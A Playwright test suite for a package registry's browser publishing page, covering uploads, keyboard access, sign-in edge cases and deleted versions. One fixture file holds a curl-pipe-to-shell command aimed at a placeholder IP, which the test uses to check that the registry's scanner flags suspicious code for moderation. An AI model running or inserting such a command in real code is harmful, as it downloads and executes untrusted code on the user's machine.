import assert from 'node:assert/strict';
import { after, test, type TestContext } from 'node:test';
import type { Page } from 'playwright-core';
import { assertAccessible } from '../support/axe.ts';
import { type PageOptions, openPage } from '../support/browser.ts';
import { makePublisher, publishActive, uniqueId, zip } from '../support/build.ts';
import { makeStale } from '../support/age-session.ts';
import { password, startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';

const projectOf = (id: string): string =>
  `[project]\nname = "${id}"\nversion = "1.0.0"\ndescription = "Draws lines"\n`;

suite('publishing in a browser', async () => {
  const server = await startServer({ after });
  const ada = await makePublisher(server, 'ada');
  const path = `/account/publishers/${ada.id}/publish`;
  const open = async (t: TestContext, options: PageOptions = {}) => {
    const page = await openPage(t, server.url, { ...options, session: ada.owner.bearer });
    await page.goto(path);
    if (options.hasScripts !== false) await page.locator('[data-src*=publish-package][data-ready]').waitFor();
    return page;
  };
  const file = async (files: Record<string, string>) => ({
    name: 'package.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(await zip(files)),
  });

  test('reads a dropped zip before it is sent, publishes it, and shows its steps as they end', async (t) => {
    const page = await open(t);
    const id = uniqueId('dropped');
    const { buffer } = await file({ 'pyproject.toml': projectOf(id), '__init__.py': '' });
    // As text, because tests are checked without a browser's types.
    const dropped = await page.evaluateHandle(`(() => {
      const transfer = new DataTransfer();
      const bytes = Uint8Array.from(atob('${buffer.toString('base64')}'), (letter) => letter.charCodeAt(0));
      transfer.items.add(new File([bytes], 'package.zip', { type: 'application/zip' }));
      return transfer;
    })()`);
    await page.dispatchEvent('.drop', 'drop', { dataTransfer: dropped });
    await page.getByText('Draws lines').waitFor();
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.waitForURL(`**${path}/${id}/1.0.0`);
    await server.settle();
    await page.getByRole('link', { name: 'See the version' }).waitFor();
    await page.locator('#progress:not([data-open])').waitFor();
  });

  test('is done by keyboard alone: a check first, whose findings stand at their lines', async (t) => {
    const page = await open(t);
    const id = uniqueId('typed');
    const code = "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n";
    await page.getByLabel('What changed').focus();
    await page.keyboard.type('More lines');
    await page.keyboard.press('Tab');
    await page
      .locator('#package:focus')
      .setInputFiles(await file({ 'pyproject.toml': projectOf(id), 'run.py': code }));
    await page.getByText('Draws lines').waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'It would wait for a moderator' }).waitFor();
    await page.getByRole('heading', { name: 'run.py' }).waitFor();
    await page.getByLabel('Line 3').first().waitFor();
    await page.locator('#outcome:focus').waitFor();
    assert.equal((await ada.owner.get(`/nodes/${id}`)).status, 404);
    await assertAccessible(page);
    await page.getByText('The zip is still chosen').waitFor();
    await page.getByRole('button', { name: 'Publish' }).press('Enter');
    await page.waitForURL(`**${path}/${id}/1.0.0`);
  });

  test('says what is wrong with a broken zip, and takes another', async (t) => {
    const page = await open(t);
    const input = page.getByLabel(/^Package/);
    await input.setInputFiles({ name: 'x.zip', mimeType: 'application/zip', buffer: Buffer.from('nothing') });
    await page.getByText('This file is not a zip').waitFor();
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.getByRole('heading', { name: 'Not published' }).waitFor();
    await input.setInputFiles(await file({ 'pyproject.toml': projectOf('another'), 'a.py': '' }));
    await page.getByText('Draws lines').waitFor();
  });

  const session = async (page: Page): Promise<string> =>
    (await page.context().cookies()).find(({ name }) => name.endsWith('session'))?.value ?? '';
  const signIn = async (page: Page): Promise<void> => {
    await page.goto('/sign-in');
    await page.getByLabel('E-mail address').fill('owner-of-ada@example.org');
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.waitForURL('**/account');
  };
  /** With a session of its own, which a test may end. */
  const openSignedIn = async (t: TestContext): Promise<Page> => {
    const page = await openPage(t, server.url, { failing: /dry_run/ });
    await signIn(page);
    await page.goto(path);
    await page.locator('[data-src*=publish-package][data-ready]').waitFor();
    return page;
  };
  const choose = async (page: Page, id: string): Promise<void> => {
    await page.getByLabel('What changed').fill('More lines');
    const chosen = await file({ 'pyproject.toml': projectOf(id), '__init__.py': '' });
    await page.getByLabel(/^Package/).setInputFiles(chosen);
  };

  test('after a sign-in in another tab, the zip is still chosen and goes with the next press', async (t) => {
    const page = await openSignedIn(t);
    const id = uniqueId('again');
    await choose(page, id);
    await signIn(await page.context().newPage());
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.getByText('somebody signed in or out').waitFor();
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.waitForURL(`**${path}/${id}/1.0.0`);
  });

  test('a sign-in that grew old meanwhile is asked for anew, and what changed is kept', async (t) => {
    const page = await openSignedIn(t);
    await choose(page, uniqueId('old'));
    await makeStale(server, { bearer: await session(page) });
    await page.getByRole('button', { name: 'Check first' }).click();
    await page.getByRole('heading', { name: 'Is it you?' }).waitFor();
    await assertAccessible(page);
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Go on' }).click();
    await page.getByText('Now choose the zip').waitFor();
    assert.equal(await page.getByLabel('What changed').inputValue(), 'More lines');
  });

  test('publishes without scripts', async (t) => {
    const page = await open(t, { hasScripts: false });
    const id = uniqueId('plain');
    const chosen = await file({ 'pyproject.toml': projectOf(id), '__init__.py': '' });
    await page.getByLabel(/^Package/).setInputFiles(chosen);
    await page.getByRole('button', { name: 'Check first' }).click();
    await page.getByRole('heading', { name: 'It can be published' }).waitFor();
    await page.getByLabel(/^Package/).setInputFiles(chosen);
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.waitForURL(`**${path}/${id}/1.0.0`);
    await page.getByRole('link', { name: 'See the version' }).waitFor();
  });

  test('the page of a publish says of a deleted version that it is deleted, and of another that there is none', async (t) => {
    const id = uniqueId('deleted');
    await publishActive(server, ada, id, '1.0.0');
    const deleted = await ada.owner.delete(`/publishers/${ada.id}/nodes/${id}/versions/1.0.0`);
    assert.equal(deleted.status, 204);
    const page = await openPage(t, server.url, { session: ada.owner.bearer });
    await page.goto(`${path}/${id}/1.0.0`);
    await page.getByText('This version is deleted, and its number stays taken.').waitFor();
    await assertAccessible(page);
    assert.equal((await page.goto(`${path}/${id}/2.0.0`))?.status(), 404);
  });
});
